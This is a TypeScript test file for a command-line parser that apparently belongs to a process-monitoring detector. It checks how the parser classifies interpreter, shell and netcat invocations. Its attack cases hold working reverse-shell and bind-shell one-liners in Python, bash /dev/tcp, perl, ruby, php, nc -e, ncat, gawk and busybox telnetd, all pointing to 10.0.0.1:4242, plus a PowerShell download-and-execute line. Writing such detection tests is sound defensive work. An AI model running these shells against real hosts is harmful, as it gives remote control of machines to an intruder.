import { describe, it } from "node:test";
import assert from "node:assert/strict";
import { readCommandLine, type CommandLine } from "../../src/evaluate/command-line.js";
import { createKnowledge } from "../../src/knowledge/knowledge.js";

const knowledge = createKnowledge();

/** What a test compares: the fields that say what the program runs, only those present. */
interface Seen {
  family: string;
  applet?: string;
  /** [as written, the flag, how, the code] */
  code?: [string, string, string, string];
  stdin?: string | null;
  interactive?: string;
  modules?: string[];
  mainModule?: string;
  script?: string;
  exec?: string;
  fileServer?: string;
  retitled?: true;
  unread?: true;
}
function seen(c: CommandLine | null): Seen | null {
  if (c === null) return null;
  return {
    family: c.family,
    ...(c.applet === undefined ? {} : { applet: c.applet }),
    ...(c.code === undefined ? {} : { code: [c.code.written, c.code.flag, c.code.how, c.code.text] as [string, string, string, string] }),
    ...(c.stdinCode === undefined ? {} : { stdin: c.stdinCode.flag }),
    ...(c.interactive === undefined ? {} : { interactive: c.interactive.flag }),
    ...(c.modules.length === 0 ? {} : { modules: c.modules }),
    ...(c.mainModule === undefined ? {} : { mainModule: c.mainModule }),
    ...(c.script === undefined ? {} : { script: c.script }),
    ...(c.exec === undefined ? {} : { exec: c.exec.text }),
    ...(c.fileServer === undefined ? {} : { fileServer: c.fileServer.shown }),
    ...(c.retitled ? { retitled: true as const } : {}),
    ...(c.unread ? { unread: true as const } : {}),
  };
}

const PY = "/usr/bin/python3.11";
const REVERSE_PY = "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);import pty;pty.spawn(\"sh\")";

// [what, argv (null: unreadable), exe, comm, what it runs (null: not a shell, netcat or interpreter)]
const attacks: [string, string[] | null, string | null, string | null, Seen | null][] = [
  ["python3 -Ic: -c inside a cluster", ["python3", "-Ic", REVERSE_PY], PY, "python3", { family: "python", code: ["-Ic", "-c", "cluster", REVERSE_PY] }],
  ["python3 -c", ["python3", "-c", "import pty;pty.spawn('/bin/bash')"], PY, "python3", { family: "python", code: ["-c", "-c", "flag", "import pty;pty.spawn('/bin/bash')"] }],
  ["python3 -c with the code glued", ["python3", "-cimport os;os.system('sh')"], PY, "python3", { family: "python", code: ["-c", "-c", "glued", "import os;os.system('sh')"] }],
  ["python3 -uc: unbuffered, then -c", ["/usr/bin/python3", "-uc", "x=1"], PY, "python3", { family: "python", code: ["-uc", "-c", "cluster", "x=1"] }],
  ["python2.7 -W ignore -c (a value, then the code)", ["python2.7", "-W", "ignore", "-c", "x"], "/usr/bin/python2.7", "python2.7", { family: "python", code: ["-c", "-c", "flag", "x"] }],
  ["python3 -: the program from standard input", ["python3", "-"], PY, "python3", { family: "python", stdin: "-" }],
  ["python3 with no arguments (curl … | python3)", ["python3"], PY, "python3", { family: "python", stdin: null }],
  ["python3 -u with no script (curl … | python3 -u)", ["python3", "-u"], PY, "python3", { family: "python", stdin: null }],
  ["python3 -i: interactive", ["python3", "-i"], PY, "python3", { family: "python", interactive: "-i", stdin: null }],
  ["python under a kernel thread's name (exec -a)", ["[kworker/0:1]", "-c", "x"], PY, "python3", { family: "python", code: ["-c", "-c", "flag", "x"] }],
  ["python known only by comm (no root: no exe)", ["[kworker/0:1]", "-c", "x"], null, "python3", { family: "python", code: ["-c", "-c", "flag", "x"] }],
  ["perl -le: -e after -l in a cluster", ["perl", "-le", "print 1"], "/usr/bin/perl", "perl", { family: "perl", code: ["-le", "-e", "cluster", "print 1"] }],
  ["perl -MIO -e (module glued)", ["perl", "-MIO", "-e", "$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"10.0.0.1:4242\");"], "/usr/bin/perl", "perl", { family: "perl", modules: ["IO"], code: ["-e", "-e", "flag", "$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"10.0.0.1:4242\");"] }],
  ["perl -lne with -l's digits (-l0)", ["perl", "-l0ne", "print"], "/usr/bin/perl5.36.0", "perl", { family: "perl", code: ["-l0ne", "-e", "cluster", "print"] }],
  ["perl -", ["perl", "-"], "/usr/bin/perl", "perl", { family: "perl", stdin: "-" }],
  ["ruby -rsocket -e", ["ruby", "-rsocket", "-e", "f=TCPSocket.open(\"10.0.0.1\",4242).to_i"], "/usr/bin/ruby3.1", "ruby", { family: "ruby", modules: ["socket"], code: ["-e", "-e", "flag", "f=TCPSocket.open(\"10.0.0.1\",4242).to_i"] }],
  ["php -r", ["php", "-r", "$s=fsockopen(\"10.0.0.1\",4242);exec(\"sh <&3 >&3\");"], "/usr/bin/php8.2", "php", { family: "php", code: ["-r", "-r", "flag", "$s=fsockopen(\"10.0.0.1\",4242);exec(\"sh <&3 >&3\");"] }],
  ["php -nr: no php.ini, then -r", ["php", "-nr", "x();"], "/usr/bin/php8.2", "php", { family: "php", code: ["-nr", "-r", "cluster", "x();"] }],
  ["node -e", ["node", "-e", "require('child_process').exec('sh')"], "/usr/bin/node", "node", { family: "node", code: ["-e", "-e", "flag", "require('child_process').exec('sh')"] }],
  ["node --eval=CODE", ["node", "--eval=x()"], "/usr/bin/node", "node", { family: "node", code: ["--eval", "-e", "flag", "x()"] }],
  ["node -pe (the one combination node knows)", ["node", "-pe", "1+1"], "/usr/bin/node", "node", { family: "node", code: ["-pe", "-e", "flag", "1+1"] }],
  ["node -", ["node", "-"], "/usr/bin/node", "node", { family: "node", stdin: "-" }],
  ["bash -ic: interactive, with a command", ["bash", "-ic", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"], "/usr/bin/bash", "bash", { family: "bash", interactive: "-i", code: ["-ic", "-c", "cluster", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"] }],
  ["bash -i", ["bash", "-i"], "/usr/bin/bash", "bash", { family: "bash", interactive: "-i", stdin: null }],
  ["bash -c -x CMD: -c is a switch, its code the first operand", ["bash", "-c", "-x", "id"], "/usr/bin/bash", "bash", { family: "bash", code: ["-c", "-c", "flag", "id"] }],
  ["sh -i (dash)", ["sh", "-i"], "/usr/bin/dash", "sh", { family: "sh", interactive: "-i", stdin: null }],
  ["sh -s", ["sh", "-s", "arg"], "/usr/bin/dash", "sh", { family: "sh", stdin: "-s" }],
  ["tcsh -fc: -c's command is the next argument", ["tcsh", "-fc", "id"], "/usr/bin/tcsh", "tcsh", { family: "csh", code: ["-fc", "-c", "cluster", "id"] }],
  ["busybox sh", ["busybox", "sh"], "/bin/busybox", "busybox", { family: "sh", applet: "sh", stdin: null }],
  ["/bin/sh -c through busybox's link", ["/bin/sh", "-c", "id"], "/bin/busybox", "sh", { family: "sh", applet: "sh", code: ["-c", "-c", "flag", "id"] }],
  ["busybox nc -e /bin/sh", ["busybox", "nc", "-e", "/bin/sh", "10.0.0.1", "4242"], "/bin/busybox", "busybox", { family: "netcat", applet: "nc", exec: "/bin/sh" }],
  ["nc -e /bin/sh", ["nc", "-e", "/bin/sh", "10.0.0.1", "4242"], "/usr/bin/nc.traditional", "nc", { family: "netcat", exec: "/bin/sh" }],
  ["nc HOST PORT -e /bin/bash (options after operands)", ["nc", "10.0.0.1", "4242", "-e", "/bin/bash"], "/usr/bin/nc.traditional", "nc", { family: "netcat", exec: "/bin/bash" }],
  ["nc -lvnp 4242 -e /bin/sh (a bind shell)", ["nc", "-lvnp", "4242", "-e", "/bin/sh"], "/usr/bin/nc.traditional", "nc", { family: "netcat", exec: "/bin/sh" }],
  ["ncat --sh-exec", ["ncat", "--sh-exec", "bash -i", "-l", "4242"], "/usr/bin/ncat", "ncat", { family: "netcat", exec: "bash -i" }],
  ["busybox telnetd -l /bin/sh", ["busybox", "telnetd", "-l", "/bin/sh", "-p", "1337"], "/bin/busybox", "busybox", { family: "telnetd", applet: "telnetd", exec: "/bin/sh" }],
  ["gawk's /inet/tcp: the program is the first operand", ["awk", "BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while (1) {s |& getline c; print c |& s}}"], "/usr/bin/gawk", "awk", { family: "awk", code: ["program", "program", "operand", "BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while (1) {s |& getline c; print c |& s}}"] }],
  ["gawk -v: a value, then the program", ["gawk", "-v", "h=10.0.0.1", "BEGIN{}"], "/usr/bin/gawk", "gawk", { family: "awk", code: ["program", "program", "operand", "BEGIN{}"] }],
  ["lua -e", ["lua", "-e", "local s=require('socket')"], "/usr/bin/lua5.4", "lua5.4", { family: "lua", code: ["-e", "-e", "flag", "local s=require('socket')"] }],
  ["lua -e with the code glued", ["lua5.4", "-eos.execute('sh')"], "/usr/bin/lua5.4", "lua5.4", { family: "lua", code: ["-e", "-e", "glued", "os.execute('sh')"] }],
  ["pwsh -EncodedCommand", ["pwsh", "-EncodedCommand", "SQBFAFgA"], "/opt/microsoft/powershell/7/pwsh", "pwsh", { family: "pwsh", code: ["-EncodedCommand", "-EncodedCommand", "flag", "SQBFAFgA"] }],
  ["pwsh -nop -enc (abbreviated)", ["pwsh", "-nop", "-enc", "SQBFAFgA"], "/opt/microsoft/powershell/7/pwsh", "pwsh", { family: "pwsh", code: ["-enc", "-EncodedCommand", "abbreviated", "SQBFAFgA"] }],
  ["pwsh -c takes every remaining argument", ["pwsh", "-c", "iex", "(iwr", "http://x)"], "/opt/microsoft/powershell/7/pwsh", "pwsh", { family: "pwsh", code: ["-c", "-Command", "abbreviated", "iex (iwr http://x)"] }],
  ["pwsh -Command -", ["pwsh", "-Command", "-"], "/opt/microsoft/powershell/7/pwsh", "pwsh", { family: "pwsh", stdin: "-Command -" }],
  ["tclsh with no script", ["tclsh"], "/usr/bin/tclsh8.6", "tclsh8.6", { family: "tcl", stdin: null }],
  ["tclsh -x (a dash first: no script)", ["tclsh", "-x", "a.tcl"], "/usr/bin/tclsh8.6", "tclsh8.6", { family: "tcl", stdin: null }],
  ["jrunscript -e", ["jrunscript", "-e", "exec('sh')"], "/usr/lib/jvm/java-11/bin/jrunscript", "jrunscript", { family: "jrunscript", code: ["-e", "-e", "flag", "exec('sh')"] }],
  ["deno eval", ["deno", "eval", "Deno.connect({port: 4242})"], "/usr/bin/deno", "deno", { family: "deno", code: ["eval", "eval", "subcommand", "Deno.connect({port: 4242})"] }],
  ["bun -e", ["bun", "-e", "Bun.connect({})"], "/usr/local/bin/bun", "bun", { family: "bun", code: ["-e", "-e", "flag", "Bun.connect({})"] }],
  ["fish -c", ["fish", "-c", "id"], "/usr/bin/fish", "fish", { family: "fish", code: ["-c", "-c", "flag", "id"] }],
  // A script path that is the standard input or a pipe: curl … | python3 /dev/stdin, python3 <(curl …), awk -f -.
  ["python3 /dev/stdin (curl … | python3 /dev/stdin)", ["python3", "/dev/stdin"], PY, "python3", { family: "python", stdin: "/dev/stdin" }],
  ["python3 /dev/fd/63 (python3 <(curl …))", ["python3", "/dev/fd/63"], PY, "python3", { family: "python", stdin: "/dev/fd/63" }],
  ["perl /proc/self/fd/0", ["perl", "/proc/self/fd/0"], "/usr/bin/perl", "perl", { family: "perl", stdin: "/proc/self/fd/0" }],
  ["tclsh /dev/stdin", ["tclsh", "/dev/stdin"], "/usr/bin/tclsh8.6", "tclsh8.6", { family: "tcl", stdin: "/dev/stdin" }],
  ["gawk -f - (the program from standard input)", ["gawk", "-f", "-"], "/usr/bin/gawk", "gawk", { family: "awk", stdin: "-f -" }],
  ["ruby -rsocket /proc/1234/fd/3", ["ruby", "-rsocket", "/proc/1234/fd/3"], "/usr/bin/ruby3.1", "ruby", { family: "ruby", modules: ["socket"], stdin: "/proc/1234/fd/3" }],
  // java: the jar (-jar), a single source file (JEP 330) or the main class is the program; -cp and -p name where code comes from
  ["java -Xmx512m -Dx=y -jar /dev/shm/r.jar arg", ["java", "-Xmx512m", "-Dx=y", "-jar", "/dev/shm/r.jar", "arg"], "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "java", { family: "java", script: "/dev/shm/r.jar" }],
  ["java --add-opens MOD=ALL-UNNAMED -jar x.jar (a value, then the jar)", ["java", "--add-opens", "java.base/java.lang=ALL-UNNAMED", "-jar", "/tmp/x.jar"], "/usr/bin/java", "java", { family: "java", script: "/tmp/x.jar" }],
  ["java -cp /tmp Rev", ["java", "-cp", "/tmp", "Rev"], "/usr/bin/java", "java", { family: "java", modules: ["/tmp"], script: "Rev" }],
  ["java /var/tmp/Rev.java (a single source file)", ["java", "/var/tmp/Rev.java"], "/usr/bin/java", "java", { family: "java", script: "/var/tmp/Rev.java" }],
];

const benign: [string, string[] | null, string | null, string | null, Seen | null][] = [
  ["node -r dotenv/config server.js: a module, then the script", ["node", "-r", "dotenv/config", "server.js"], "/usr/bin/node", "node", { family: "node", modules: ["dotenv/config"], script: "server.js" }],
  ["node --require ts-node/register app.ts", ["node", "--require", "ts-node/register", "app.ts"], "/usr/bin/node", "node", { family: "node", modules: ["ts-node/register"], script: "app.ts" }],
  ["node --inspect=… --title x app.js (a value, not the script)", ["node", "--inspect=0.0.0.0:9229", "--title", "x", "app.js"], "/usr/bin/node", "node", { family: "node", script: "app.js" }],
  ["node /usr/lib/node_modules/npm/bin/npm-cli.js", ["node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "install"], "/usr/bin/node", "node", { family: "node", script: "/usr/lib/node_modules/npm/bin/npm-cli.js" }],
  ["node --test (the test runner needs no script)", ["node", "--test"], "/usr/bin/node", "node", { family: "node" }],
  ["node retitled by npm (process.title)", ["npm"], "/usr/bin/node", "npm", { family: "node", retitled: true }],
  ["ruby -run -e httpd . -p 8000 (un.rb's file server)", ["ruby", "-run", "-e", "httpd", ".", "-p", "8000"], "/usr/bin/ruby3.1", "ruby", { family: "ruby", modules: ["un"], code: ["-e", "-e", "flag", "httpd"], fileServer: "ruby -run -e httpd . -p 8000" }],
  ["ruby -run -e httpd -e more: not only un.rb's httpd", ["ruby", "-run", "-e", "httpd", "-e", "system('sh')"], "/usr/bin/ruby3.1", "ruby", { family: "ruby", modules: ["un"], code: ["-e", "-e", "flag", "httpd\nsystem('sh')"] }],
  ["busybox httpd -f -p 8080: a web server, not a shell", ["busybox", "httpd", "-f", "-p", "8080"], "/bin/busybox", "busybox", { family: "busybox", applet: "httpd" }],
  ["busybox udhcpc", ["busybox", "udhcpc", "-i", "eth0"], "/bin/busybox", "busybox", { family: "busybox", applet: "udhcpc" }],
  ["udhcpc through busybox's link", ["udhcpc", "-i", "eth0"], "/bin/busybox", "udhcpc", { family: "busybox", applet: "udhcpc" }],
  ["python3 -m http.server 8000", ["python3", "-m", "http.server", "8000"], PY, "python3", { family: "python", mainModule: "http.server", fileServer: "python3 -m http.server 8000" }],
  ["python3 -m app -c config.yaml: after -m, -c is the app's", ["python3", "-m", "app", "-c", "config.yaml"], PY, "python3", { family: "python", mainModule: "app" }],
  ["python3 /usr/bin/unattended-upgrade (comm differs)", ["/usr/bin/python3", "/usr/bin/unattended-upgrade"], "/usr/bin/python3.12", "unattended-upgr", { family: "python", script: "/usr/bin/unattended-upgrade" }],
  ["python3 -u /opt/app/main.py", ["python3", "-u", "/opt/app/main.py"], PY, "python3", { family: "python", script: "/opt/app/main.py" }],
  ["/usr/bin/python3 -Es /usr/sbin/firewalld --nofork", ["/usr/bin/python3", "-Es", "/usr/sbin/firewalld", "--nofork"], PY, "firewalld", { family: "python", script: "/usr/sbin/firewalld" }],
  ["python3 -W ignore::DeprecationWarning script.py", ["python3", "-W", "ignore::DeprecationWarning", "script.py"], PY, "python3", { family: "python", script: "script.py" }],
  ["gunicorn's rewritten title", ["gunicorn: master [app:app]"], PY, "gunicorn", { family: "python", retitled: true }],
  ["perl -w /usr/sbin/munin-node", ["/usr/bin/perl", "-w", "/usr/sbin/munin-node"], "/usr/bin/perl", "munin-node", { family: "perl", script: "/usr/sbin/munin-node" }],
  ["perl -I lib script.pl", ["perl", "-I", "lib", "script.pl"], "/usr/bin/perl", "perl", { family: "perl", script: "script.pl" }],
  ["php-fpm: pool www (not the php interpreter)", ["php-fpm: pool www"], "/usr/sbin/php-fpm8.2", "php-fpm8.2", null],
  ["php -S 0.0.0.0:8000 -t /srv (PHP's built-in server)", ["php", "-S", "0.0.0.0:8000", "-t", "/srv"], "/usr/bin/php8.2", "php", { family: "php", fileServer: "php -S 0.0.0.0:8000 -t /srv" }],
  ["php artisan serve", ["php", "artisan", "serve"], "/usr/bin/php8.2", "php", { family: "php", script: "artisan" }],
  ["bash /opt/app/run.sh", ["bash", "/opt/app/run.sh"], "/usr/bin/bash", "bash", { family: "bash", script: "/opt/app/run.sh" }],
  ["sh -c 'exec /usr/sbin/foo' (a wrapper: still a shell running a command)", ["sh", "-c", "exec /usr/sbin/foo"], "/usr/bin/dash", "sh", { family: "sh", code: ["-c", "-c", "flag", "exec /usr/sbin/foo"] }],
  ["a login shell (-bash)", ["-bash"], "/usr/bin/bash", "bash", { family: "bash", stdin: null }],
  ["bash -o pipefail script (a value, then the script)", ["bash", "-o", "pipefail", "job.sh"], "/usr/bin/bash", "bash", { family: "bash", script: "job.sh" }],
  ["awk -f prog.awk data", ["awk", "-f", "/usr/share/x/prog.awk", "data"], "/usr/bin/mawk", "awk", { family: "awk", script: "/usr/share/x/prog.awk" }],
  ["lua /usr/bin/prosody", ["lua5.4", "/usr/bin/prosody"], "/usr/bin/lua5.4", "prosody", { family: "lua", script: "/usr/bin/prosody" }],
  ["pwsh -File script.ps1", ["pwsh", "-NoProfile", "-File", "/opt/s/run.ps1", "-Verbose"], "/opt/microsoft/powershell/7/pwsh", "pwsh", { family: "pwsh", script: "/opt/s/run.ps1" }],
  ["pwsh script.ps1", ["pwsh", "/opt/s/run.ps1"], "/opt/microsoft/powershell/7/pwsh", "pwsh", { family: "pwsh", script: "/opt/s/run.ps1" }],
  ["tclsh -encoding utf-8 script.tcl", ["tclsh", "-encoding", "utf-8", "/usr/share/x.tcl"], "/usr/bin/tclsh8.6", "tclsh8.6", { family: "tcl", script: "/usr/share/x.tcl" }],
  ["deno run -A server.ts", ["deno", "run", "-A", "server.ts"], "/usr/bin/deno", "deno", { family: "deno", script: "server.ts" }],
  ["bun run server.ts", ["bun", "run", "server.ts"], "/usr/local/bin/bun", "bun", { family: "bun", script: "server.ts" }],
  ["bun install", ["bun", "install"], "/usr/local/bin/bun", "bun", { family: "bun" }],
  ["busybox telnetd -l /bin/login: a login, not a shell", ["busybox", "telnetd", "-l", "/bin/login"], "/bin/busybox", "busybox", { family: "telnetd", applet: "telnetd", exec: "/bin/login" }],
  ["sshd", ["sshd: /usr/sbin/sshd -D [listener]"], "/usr/sbin/sshd", "sshd", null],
  ["a shell from a capture (no arguments to read)", null, null, "bash", { family: "bash", unread: true }],
];

describe("readCommandLine", () => {
  for (const [what, argv, exe, comm, expected] of [...attacks, ...benign]) {
    it(`readCommandLine ${what}`, () => assert.deepEqual(seen(readCommandLine(argv, exe, comm, knowledge)), expected));
  }

  it("readCommandLine names the program as it runs, for messages", () => {
    assert.equal(readCommandLine(["/usr/bin/python3", "-"], PY, "python3", knowledge)?.program, "python3");
    assert.equal(readCommandLine(["busybox", "sh"], "/bin/busybox", "busybox", knowledge)?.program, "busybox sh");
    assert.equal(readCommandLine(["gunicorn: master"], PY, "gunicorn", knowledge)?.program, "python3.11");
    assert.equal(readCommandLine(["python3", "-m", "http.server"], PY, "python3", knowledge)?.kind, "interpreter");
  });

  // Python's multiprocessing runs its workers with -c and a fixed one-liner; only exactly that is known.
  const workers: [string, string, string | undefined][] = [
    ["a spawn worker (uvicorn --workers)", "from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5, pipe_handle=7)", "spawn"],
    ["a forkserver worker (Python 3.14's default)", "from multiprocessing.forkserver import main; main(3, 4, ['__main__'], **{'sys_path': ['/srv/app', '/usr/lib/python3.14'], 'main_path': '/srv/app/run.py'})", "forkserver"],
    ["the resource tracker", "from multiprocessing.resource_tracker import main;main(6)", "resource tracker"],
    ["spawn_main with a call hidden after it", "from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5, pipe_handle=7); __import__('os').system('sh')", undefined],
    ["forkserver main with a call inside its arguments", "from multiprocessing.forkserver import main; main(3, 4, [__import__('os').system('sh')], **{})", undefined],
    ["a spawn_main look-alike on its own", "spawn_main(tracker_fd=5, pipe_handle=7)", undefined],
  ];
  for (const [what, code, known] of workers) {
    it(`readCommandLine knows ${what}: ${known === undefined ? "not" : "known"}`, () => {
      const c = readCommandLine(["/usr/bin/python3", "-c", code, "--multiprocessing-fork"], PY, "python3", knowledge)?.code;
      assert.equal(c?.text, code);
      if (known === undefined) assert.equal(c?.known, undefined);
      else assert.match(c?.known ?? "", new RegExp(known));
    });
  }

  it("readCommandLine shortens a long quick-server line to 80 characters", () => {
    const shown = readCommandLine(["python3", "-m", "http.server", "--directory", "/srv/" + "x".repeat(200)], PY, "python3", knowledge)?.fileServer?.shown ?? "";
    assert.equal(shown.length, 80);
    assert.match(shown, /^python3 -m http\.server --directory \/srv\/x+…$/);
  });
});
